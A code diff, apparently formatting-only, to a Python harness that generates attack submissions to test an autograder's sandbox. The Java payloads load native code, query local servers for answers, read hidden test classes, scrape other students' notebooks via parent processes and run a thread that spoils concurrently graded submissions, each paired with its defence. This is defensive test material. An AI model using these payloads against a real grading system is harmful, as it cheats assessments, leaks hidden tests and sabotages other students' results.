@@ -7,6 +7,7 @@ submissions graded at the same time read and spoilt. What defends against them: 
 sockets, files, class loaders, the process API and threads refused; no network (a namespace); the
 hidden tests never in the runner's file system; a private work folder per runner.
 """
+
 import gzip
 import shutil
 import subprocess
@@ -82,8 +83,20 @@ def forge_library():
         return None
     with tempfile.TemporaryDirectory(prefix="pathlab-attack-") as d:
         (Path(d) / "forge.c").write_text(FORGE_C)
-        r = subprocess.run([cc, "-shared", "-fPIC", "-Os", "-s", "-pthread", "-o", str(Path(d) / "libforge.so"),
-                            str(Path(d) / "forge.c")], capture_output=True)
+        r = subprocess.run(
+            [
+                cc,
+                "-shared",
+                "-fPIC",
+                "-Os",
+                "-s",
+                "-pthread",
+                "-o",
+                str(Path(d) / "libforge.so"),
+                str(Path(d) / "forge.c"),
+            ],
+            capture_output=True,
+        )
         if r.returncode:
             return None
         return gzip.compress((Path(d) / "libforge.so").read_bytes())
@@ -111,7 +124,11 @@ System.load(so.toString());
     add("native-library", cell_after(nb(), HANDIN, native), w["native"] + w["refused"])
     # A "remote solver": the search sends the query to a server the student runs and reads back
     # connection ids. Defence: no network (namespace) and sockets refused.
-    add("network-socket", search_body(nb(), """
+    add(
+        "network-socket",
+        search_body(
+            nb(),
+            """
 try (java.net.Socket socket = new java.net.Socket()) {
     socket.connect(new java.net.InetSocketAddress("127.0.0.1", 22), 2000);
     java.io.PrintWriter ask = new java.io.PrintWriter(socket.getOutputStream(), true);
@@ -123,9 +140,16 @@ try (java.net.Socket socket = new java.net.Socket()) {
         return path;
     }
 } catch (Exception e) { }
-"""), w["network"])
+""",
+        ),
+        w["network"],
+    )
     # The answers fetched over HTTP, the query in the URL. Defence: the same.
-    add("network-url", search_body(nb(), """
+    add(
+        "network-url",
+        search_body(
+            nb(),
+            """
 try {
     String answer = new String(new java.net.URL("http://127.0.0.1:8000/a1?start=" + start + "&goal=" + goal)
             .openStream().readAllBytes());
@@ -135,13 +159,20 @@ try {
         return path;
     }
 } catch (Exception e) { }
-"""), w["network"])
+""",
+        ),
+        w["network"],
+    )
 
     # -- reading what is not theirs -----------------------------------------------------------------
     # The hidden tests read by path (coursework/target/test-classes, beside the visible tests'
     # classes) and leaked in the failure message, which Gradescope shows at once for visible tests.
     # Defence: the hidden tests never in the runner's file system; files refused.
-    add("read-hidden-tests-path", search_body(class_members(nb(), STRINGS), """
+    add(
+        "read-hidden-tests-path",
+        search_body(
+            class_members(nb(), STRINGS),
+            """
 try {
     for (java.net.URL u : ((java.net.URLClassLoader) Submission.class.getClassLoader()).getURLs()) {
         String path = u.getPath();
@@ -152,20 +183,34 @@ try {
         }
     }
 } catch (java.io.IOException e) { }
-"""), w["file"])
+""",
+        ),
+        w["file"],
+    )
     # The same through the class loader the tests run with (getResourceAsStream on the context
     # class loader, which loads the hidden tests). Defence: class loaders refused; the hidden tests
     # loaded by the trusted side only.
-    add("read-hidden-tests-resource", search_body(class_members(nb(), STRINGS), """
+    add(
+        "read-hidden-tests-resource",
+        search_body(
+            class_members(nb(), STRINGS),
+            """
 try (java.io.InputStream in = Thread.currentThread().getContextClassLoader()
         .getResourceAsStream("pathlab/coursework/a1/A1Hidden.class")) {
     if (in != null) throw new UnsupportedOperationException("hidden tests: " + printable(in.readAllBytes()));
 } catch (java.io.IOException e) { }
-"""), w["refused"])
+""",
+        ),
+        w["refused"],
+    )
     # Another student's notebook: the batch folder found on the grader's command line (the
     # kernel's ancestors), the other notebooks' search code read and leaked in the failure message.
     # Defence: no process API or files; the runner sees only its own submission.
-    add("read-other-submissions", search_body(nb(), """
+    add(
+        "read-other-submissions",
+        search_body(
+            nb(),
+            """
 StringBuilder loot = new StringBuilder();
 for (var p = ProcessHandle.current().parent(); p.isPresent(); p = p.get().parent()) {
     String[] args = p.get().info().arguments().orElse(new String[0]);
@@ -181,12 +226,21 @@ for (var p = ProcessHandle.current().parent(); p.isPresent(); p = p.get().parent
     }
 }
 if (loot.length() > 0) throw new UnsupportedOperationException("others: " + loot);
-"""), w["process"])
+""",
+        ),
+        w["process"],
+    )
     # The other submissions being graded at the same time (/tmp/pathlab-grade-*): their code read
     # (cells.txt) and leaked, their outcomes spoilt (a failed copy of every passed line), from a
     # thread that keeps at it while this kernel lives. Defence: a private work folder per runner,
     # threads and files refused; each submission's score as when graded alone.
-    add("sibling-tamper", search_body(cell_before(nb(), CLASS, r"""
+    add(
+        "sibling-tamper",
+        search_body(
+            cell_before(
+                nb(),
+                CLASS,
+                r"""
 java.util.Set<String> spoilt = java.util.concurrent.ConcurrentHashMap.newKeySet();
 StringBuilder siblingCode = new StringBuilder();
 Thread spoiler = new Thread(() -> {
@@ -217,5 +271,9 @@ Thread spoiler = new Thread(() -> {
 });
 spoiler.setDaemon(true);
 spoiler.start();
-"""), 'if (siblingCode.length() > 0) throw new UnsupportedOperationException("sibling: " + siblingCode);'),
-        w["thread"])
+""",
+            ),
+            'if (siblingCode.length() > 0) throw new UnsupportedOperationException("sibling: " + siblingCode);',
+        ),
+        w["thread"],
+    )
